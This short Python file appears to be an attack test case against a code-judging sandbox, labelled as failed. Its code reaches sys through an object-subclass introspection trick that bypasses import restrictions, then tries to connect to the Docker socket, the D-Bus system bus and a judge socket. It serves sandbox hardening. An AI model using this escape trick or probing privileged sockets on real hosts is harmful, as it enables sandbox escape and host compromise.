# /// attack
# rows = [40]
# title = "connect to the machine's own daemons"
# verdict = "failed"
# ///
sys = next(
    c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "catch_warnings"
)()._module.sys

socket = sys.modules["importlib"].import_module("socket")
for path in ("/var/run/docker.sock", "/run/dbus/system_bus_socket", "\0/tmp/dbus", "COURSE/judge.sock"):
    try:
        s = socket.socket(socket.AF_UNIX)
        s.connect(path)
        print("connected")
    except OSError as error:
        print(type(error).__name__)
